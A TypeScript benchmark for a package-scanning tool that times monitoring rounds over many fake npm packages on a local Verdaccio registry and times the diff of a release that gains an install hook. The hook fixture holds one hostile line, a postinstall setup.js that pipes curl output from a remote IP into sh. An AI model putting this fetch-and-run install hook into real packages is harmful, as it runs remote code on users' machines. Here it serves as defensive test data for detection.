// `npm run bench -- pkgscan-monitor [--packages N]`: a monitoring round over N watched packages (default 500) against a real
// Verdaccio on loopback (baseline, then unchanged), and the release diff of one package that gains an install hook.
import { mkdtemp, rm } from 'node:fs/promises';
import { readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { standaloneContext } from '../engines/core/http/server.js';
import { InProcessRunner } from '../engines/core/jobs/in-process.js';
import { openMemoryStore } from '../engines/core/store.js';
import { defaultResourcesDir } from '../engines/pkgscan/config.js';
import { diffReleases } from '../engines/pkgscan/diffs/diff.js';
import { checkPackage, createWatched } from '../engines/pkgscan/monitoring/monitoring.js';
import { createPlatform } from '../engines/pkgscan/platform.js';
import { scanDeps } from '../engines/pkgscan/scans/deps.js';
import { pkgscanService } from '../engines/pkgscan/service.js';
import { sourcesFromConfig } from '../engines/pkgscan/sources/resolve.js';
import { tgz } from '../engines/pkgscan/sources/archives.fixture.js';
import { startVerdaccio } from '../engines/pkgscan/sources/verdaccio.fixture.js';

const args = process.argv.slice(3);
const at = args.indexOf('--packages');
const count = at >= 0 ? Number(args[at + 1]) : 500;

const peakRssMiB = (): number => Number(/VmHWM:\s+(\d+) kB/.exec(readFileSync('/proc/self/status', 'utf8'))?.[1] ?? 0) / 1024;

const registry = await startVerdaccio();
const base = registry.base;
const publish = (name: string, version: string, tarball: Uint8Array): Promise<void> => registry.publish(name, version, tarball);

const release = (name: string, version: string, hook = false): Promise<Uint8Array> =>
  tgz({
    'package/package.json': JSON.stringify({ name, version, main: 'index.js', ...(hook ? { scripts: { postinstall: 'node setup.js' } } : {}) }),
    'package/index.js': `module.exports = function ${name.replace(/-/g, '_')}(x) { return x * 2; };\n`,
    ...(hook ? { 'package/setup.js': "require('child_process').execSync('curl -s http://203.0.113.7/p.sh | sh');\n" } : {}),
  });

const dataDir = await mkdtemp(path.join(tmpdir(), 'pkgscan-bench-monitor-data-'));
try {
  for (let i = 0; i < count; i++) await publish(`bench-pkg-${i}`, '1.0.0', await release(`bench-pkg-${i}`, '1.0.0'));
  const resourcesDir = defaultResourcesDir();
  const p = createPlatform(standaloneContext(pkgscanService, { db: openMemoryStore([pkgscanService]), dataDir, resourcesDir, jobs: new InProcessRunner(pkgscanService.jobs) }, defaultResourcesDir));
  const deps = { ...scanDeps(p), sources: () => sourcesFromConfig(p.db, p.dataDir, {}, { npmMirror: base, timeoutMs: 30_000 }) };
  const ids: string[] = [];
  for (let i = 0; i < count; i++) ids.push((await createWatched(p, { ecosystem: 'npm', name: `bench-pkg-${i}`, poll_interval_seconds: 300 }, 'system', null)).id);
  const round = async (label: string): Promise<void> => {
    const results = new Map<string, number>();
    const t0 = process.hrtime.bigint();
    for (const id of ids) {
      const c = await checkPackage(p, deps, id, 'system', { trigger: 'scheduled' });
      results.set(c.result, (results.get(c.result) ?? 0) + 1);
    }
    const s = Number(process.hrtime.bigint() - t0) / 1e9;
    console.log(`  ${label}: ${s.toFixed(2)} s for ${count} packages (${[...results].map(([k, v]) => `${v} ${k}`).join(', ')}), peak RSS ${peakRssMiB().toFixed(0)} MiB (Verdaccio included)`);
  };
  console.log(`pkgscan-monitor: ${count} watched packages against Verdaccio on loopback`);
  await round('baseline round');
  await round('unchanged round');
  await publish('bench-pkg-0', '1.1.0', await release('bench-pkg-0', '1.1.0', true));
  const t0 = process.hrtime.bigint();
  const d = await diffReleases(p, deps, { ecosystem: 'npm', name: 'bench-pkg-0', from_version: '1.0.0', to_version: '1.1.0' }, 'system', null);
  console.log(`  release diff 1.0.0 -> 1.1.0 (gains an install hook): ${(Number(process.hrtime.bigint() - t0) / 1e9).toFixed(2)} s, escalated ${String(d.escalated)}`);
  p.db.close();
} finally {
  await registry.close();
  await rm(dataDir, { recursive: true, force: true });
}
